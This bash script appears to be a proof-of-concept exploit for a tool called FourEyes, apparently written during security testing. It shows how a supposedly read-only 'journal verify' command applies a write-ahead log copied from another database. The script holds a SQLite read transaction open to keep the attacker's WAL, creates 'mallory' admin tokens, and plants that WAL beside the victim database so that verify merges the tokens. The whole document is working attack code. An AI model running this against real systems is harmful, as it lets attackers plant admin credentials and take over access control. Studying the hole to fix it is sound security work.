#!/bin/bash
# HOLE: a read door (journal verify) applies another FourEyes database's WAL to --db and deletes it
F=/work/attack39/foureyes; D=/tmp/attack39/w; rm -rf $D; mkdir -p $D; cd $D
$F --db A.db token create --name alice --role admin >/dev/null 2>&1
$F --db B.db token create --name mallory --role admin >/dev/null 2>&1
python3 -c "
import sqlite3,time
c=sqlite3.connect('B.db',isolation_level=None); c.execute('begin'); c.execute('select count(*) from journal').fetchall(); time.sleep(6); c.execute('commit')" &
sleep 1; for i in 1 2 3; do $F --db B.db token create --name m$i --role admin >/dev/null 2>&1; done
cp B.db-wal Bwal.saved; wait
cp A.db A.orig; $F --db A.db token list; cp Bwal.saved A.db-wal
$F --db A.db journal verify; echo "verify rc=$?"
ls -l A.db*; cmp -s A.orig A.db || echo "A.db CHANGED by journal verify"; $F --db A.db token list
